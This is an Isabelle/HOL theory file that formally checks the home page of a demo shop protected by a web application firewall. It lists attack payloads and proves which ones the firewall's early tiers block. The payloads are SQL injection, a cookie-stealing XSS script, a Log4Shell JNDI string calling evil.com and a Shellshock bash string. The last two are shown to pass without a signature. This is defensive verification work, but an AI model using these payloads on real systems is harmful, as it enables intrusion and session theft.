(* ===== verification/DummyPage.thy ===== *)
theory DummyPage
  imports DummyApp
begin

text \<open>
  The home page of the demonstration shop, \<open>HOMEPAGE\<close> of \<open>dummy-server/app.py\<close>, line by line, and the attack
  payloads it lists as blocked, held against the agent's Tier 2.
\<close>

definition HOMEPAGE_LINES :: "pystr list" where
  "HOMEPAGE_LINES =
     [lit ''<!DOCTYPE html>'',
      lit ''<html lang=\"en\">'',
      lit ''<head>'',
      lit ''  <meta charset=\"UTF-8\"/>'',
      lit ''  <meta name=\"viewport\" content=\"width=device-width,initial-scale=1.0\"/>'',
      lit ''  <title>ShopExample Corp.</title>'',
      lit ''  <style>'',
      lit ''    *{margin:0;padding:0;box-sizing:border-box}'',
      lit ''    body{font-family:-apple-system,BlinkMacSystemFont,'Segoe UI',sans-serif;background:#0d1117;color:#e6edf3;m'' @
        lit ''in-height:100vh}'',
      lit ''    header{background:#161b22;border-bottom:1px solid #30363d;padding:16px 40px;display:flex;justify-content:s'' @
        lit ''pace-between;align-items:center}'',
      lit ''    header h1{font-size:20px;color:#58a6ff;font-weight:700}'',
      lit ''    .tag{font-size:12px;color:#8b949e;background:#21262d;border:1px solid #30363d;padding:4px 12px;border-radi'' @
        lit ''us:20px}'',
      lit ''    .hero{text-align:center;padding:60px 20px;border-bottom:1px solid #30363d}'',
      lit ''    .hero h2{font-size:28px;margin-bottom:8px}'',
      lit ''    .hero p{color:#8b949e;margin-bottom:20px}'',
      lit ''    .warn{display:inline-block;padding:5px 14px;background:rgba(248,81,73,.15);color:#f85149;border:1px solid '' @
        lit ''rgba(248,81,73,.3);border-radius:20px;font-size:12px;font-weight:600}'',
      lit ''    .grid{display:grid;grid-template-columns:repeat(auto-fit,minmax(300px,1fr));gap:20px;padding:40px;max-widt'' @
        lit ''h:1100px;margin:0 auto}'',
      lit ''    .card{background:#161b22;border:1px solid #30363d;border-radius:12px;padding:24px}'',
      lit ''    .card h3{font-size:12px;text-transform:uppercase;letter-spacing:1px;color:#8b949e;margin-bottom:14px}'',
      lit ''    .ep{font-family:monospace;font-size:13px;color:#58a6ff;background:#0d1117;padding:8px 12px;border-radius:6'' @
        lit ''px;margin:5px 0;border:1px solid #21262d;display:flex;align-items:center;gap:8px}'',
      lit ''    .m{font-size:10px;font-weight:700;padding:2px 6px;border-radius:4px}'',
      lit ''    .get{background:rgba(56,139,253,.15);color:#58a6ff}'',
      lit ''    .post{background:rgba(63,185,80,.15);color:#3fb950}'',
      lit ''    input{width:100%;padding:9px 12px;background:#0d1117;border:1px solid #30363d;border-radius:7px;color:#e6e'' @
        lit ''df3;font-size:13px;margin-bottom:9px;outline:none}'',
      lit ''    input:focus{border-color:#58a6ff}'',
      lit ''    button{width:100%;padding:9px;background:#21262d;border:1px solid #30363d;border-radius:7px;color:#e6edf3;'' @
        lit ''cursor:pointer;font-size:13px}'',
      lit ''    button:hover{background:#30363d}'',
      lit ''    code{font-family:monospace;font-size:12px;color:#ffa657}'',
      lit ''    .payload{font-family:monospace;font-size:12px;color:#ff7b72;background:#0d1117;padding:8px 12px;border-rad'' @
        lit ''ius:6px;margin:5px 0;border:1px solid #21262d}'',
      lit ''    footer{text-align:center;padding:24px;color:#484f58;font-size:12px;border-top:1px solid #21262d;margin-top'' @
        lit '':20px}'',
      lit ''  </style>'',
      lit ''</head>'',
      lit ''<body>'',
      lit ''  <header>'',
      lit ''    <h1>ShopExample Corp.</h1>'',
      lit ''    <span class=\"tag\">'' @ [128737] @ lit '' Protected by AISS WAF</span>'',
      lit ''  </header>'',
      lit ''  <div class=\"hero\">'',
      lit ''    <h2>Company E-Commerce Platform</h2>'',
      lit ''    <p>A dummy server simulating a real company API '' @ [8212] @ lit '' protected by the AISS WAF.</p>'',
      lit ''    <span class=\"warn\">'' @
        [9888] @
        lit '' Attack Simulation Target '' @
        [8212] @
        lit '' Demo Only</span>'',
      lit ''  </div>'',
      [],
      lit ''  <div class=\"grid\">'',
      lit ''    <div class=\"card\">'',
      lit ''      <h3>Available Endpoints</h3>'',
      lit ''      <div class=\"ep\"><span class=\"m get\">GET</span>/</div>'',
      lit ''      <div class=\"ep\"><span class=\"m post\">POST</span>/login</div>'',
      lit ''      <div class=\"ep\"><span class=\"m get\">GET</span>/search?q=laptop</div>'',
      lit ''      <div class=\"ep\"><span class=\"m get\">GET</span>/api/users</div>'',
      lit ''      <div class=\"ep\"><span class=\"m get\">GET</span>/api/products</div>'',
      lit ''      <div class=\"ep\"><span class=\"m post\">POST</span>/comment</div>'',
      lit ''    </div>'',
      [],
      lit ''    <div class=\"card\">'',
      lit ''      <h3>Test Login (SQL Injection Target)</h3>'',
      lit ''      <form action=\"/login\" method=\"POST\">'',
      lit ''        <input name=\"username\" placeholder=\"Username\" value=\"admin\"/>'',
      lit ''        <input name=\"password\" placeholder=\"Password\" value=\"password\"/>'',
      lit ''        <button type=\"submit\">Login '' @ [8594] @ lit ''</button>'',
      lit ''      </form>'',
      lit ''      <p style=\"margin-top:12px;font-size:12px;color:#8b949e\">Try username: <code>' OR 1=1--</code></p>'',
      lit ''    </div>'',
      [],
      lit ''    <div class=\"card\">'',
      lit ''      <h3>Search (XSS Target)</h3>'',
      lit ''      <form action=\"/search\" method=\"GET\">'',
      lit ''        <input name=\"q\" placeholder=\"Search products...\"/>'',
      lit ''        <button type=\"submit\">Search '' @ [8594] @ lit ''</button>'',
      lit ''      </form>'',
      lit ''      <p style=\"margin-top:12px;font-size:12px;color:#8b949e\">Try: <code>&lt;script&gt;alert(1)&lt;/script&gt;'' @
        lit ''</code></p>'',
      lit ''    </div>'',
      [],
      lit ''    <div class=\"card\">'',
      lit ''      <h3>Attack Payloads to Try (will be BLOCKED)</h3>'',
      lit ''      <div class=\"payload\">' OR 1=1--</div>'',
      lit ''      <div class=\"payload\">UNION SELECT * FROM users</div>'',
      lit ''      <div class=\"payload\">&lt;script&gt;alert(document.cookie)&lt;/script&gt;</div>'',
      lit ''      <div class=\"payload\">${jndi:ldap://evil.com/exploit}</div>'',
      lit ''      <div class=\"payload\">() { :;}; /bin/bash -i</div>'',
      lit ''    </div>'',
      lit ''  </div>'',
      lit ''  <footer>ShopExample Corp. '' @
        [183] @
        lit '' AISS WAF Demo '' @
        [183] @
        lit '' Nginx + AISS Agent + WAF Proxy</footer>'',
      lit ''</body>'',
      lit ''</html>'']"

definition HOMEPAGE :: pystr where
  "HOMEPAGE = join_with [10] HOMEPAGE_LINES"

definition home :: pystr where
  "home = HOMEPAGE"

subsection \<open>The payloads it shows\<close>

text \<open>What a browser makes of the two entities the page uses.\<close>

fun unescape_angles :: "pystr \<Rightarrow> pystr" where
  "unescape_angles [] = []"
| "unescape_angles (c # s) =
     (if startswith (c # s) (lit ''&lt;'') then 60 # unescape_angles (drop 3 s)
      else if startswith (c # s) (lit ''&gt;'') then 62 # unescape_angles (drop 3 s)
      else c # unescape_angles s)"

definition payload_open :: pystr where
  "payload_open = lit ''<div class=\"payload\">''"

definition line_payload :: "pystr \<Rightarrow> pystr option" where
  "line_payload l =
     (let t = dropWhile is_space l
      in if startswith t payload_open
         then Some (unescape_angles (takeWhile (\<lambda>c. c \<noteq> 60) (drop (length payload_open) t))) else None)"

definition PAYLOADS :: "pystr list" where
  "PAYLOADS = List.map_filter line_payload HOMEPAGE_LINES"

lemma payloads:
  "PAYLOADS =
     [lit ''' OR 1=1--'', lit ''UNION SELECT * FROM users'', lit ''<script>alert(document.cookie)</script>'',
      lit ''${jndi:ldap://evil.com/exploit}'', lit ''() { :;}; /bin/bash -i'']"
  by code_simp

text \<open>
  What is true of the promise that the payloads \<open>will be BLOCKED\<close>. In enforce mode a request whose query has a
  parameter that decodes to one of the first three is blocked by Tier 1 or 2, whatever else it contains. The other two
  are no attack to Tier 2: in a query parameter of a plain request only a loaded signature stops them before Tier 3.
\<close>

theorem shop_payloads:
  assumes "pc_mode cfg \<noteq> lit ''shadow''" "\<not> is_static_file (uri_of r)"
    and "rq_query r = Some (x @ k @ [61] @ w @ y)" "x = [] \<or> last x = 38" "y = [] \<or> hd y = 38"
    and "38 \<notin> set k" "61 \<notin> set k" "38 \<notin> set w" "unquote_plus w \<in> set (take 3 PAYLOADS)"
  shows "\<exists>v. fst (check cfg lat r s) = Inr v \<and> v_action v = BLOCK \<and> v_tier v \<in> {1, 2}"
proof -
  let ?bad = "\<lambda>t. sqli_text t \<noteq> None \<or> xss_text t \<noteq> None"
  have "list_all (\<lambda>t. t \<noteq> [] \<and> ?bad t) (take 3 PAYLOADS)" by code_simp
  then have bad: "?bad (unquote_plus w)" "unquote_plus w \<noteq> []" using assms(9) unfolding list_all_iff by blast+
  then have "w \<noteq> []" by (auto simp: unquote_plus_def unquote_def)
  moreover have "w \<in> set (extract_inputs r)"
    using assms(3-8) param_values_covers [of k w x y] by (intro extract_inputs_query_value [OF refl]) auto
  ultimately have "check_sqli (extract_inputs r) \<noteq> None \<or> check_xss (extract_inputs r) \<noteq> None"
    unfolding check_sqli_iff check_xss_iff using bad(1) by blast
  then have "early_tiers cfg (ps_patterns s) lat r \<noteq> None" by (auto simp: early_tiers_None_iff)
  with assms(1,2) show ?thesis by (intro early_block)
qed

definition shop_search :: "string \<Rightarrow> request" where
  "shop_search w = empty_request\<lparr>rq_uri := Some (lit ''/search''), rq_query := Some (lit ''q='' @ lit w)\<rparr>"

theorem shop_payloads_witness:
  "\<exists>v. fst (check (demo_cfg (lit ''enforce'')) 0 (shop_search ''UNION+SELECT+*+FROM+users'') demo_state) = Inr v \<and>
     v_action v = BLOCK \<and> v_tier v \<in> {1, 2}"
proof -
  let ?w = "lit ''UNION+SELECT+*+FROM+users''"
  have "unquote_plus ?w = lit ''UNION SELECT * FROM users''" by code_simp
  then have w: "unquote_plus ?w \<in> set (take 3 PAYLOADS)" by (simp add: payloads eval_nat_numeral)
  have q: "rq_query (shop_search ''UNION+SELECT+*+FROM+users'') = Some ([] @ lit ''q'' @ [61] @ ?w @ [])" by code_simp
  show ?thesis by (rule shop_payloads [OF _ _ q _ _ _ _ _ w]) code_simp+
qed

text \<open>The remaining two, without a signature.\<close>

lemma shop_payloads_unseen:
  "early_tiers (demo_cfg (lit ''enforce'')) [] 0 (shop_search ''${jndi:ldap://evil.com/exploit}'') = None"
  "early_tiers (demo_cfg (lit ''enforce'')) [] 0 (shop_search ''()+{+:;};+/bin/bash+-i'') = None"
  by code_simp+

end
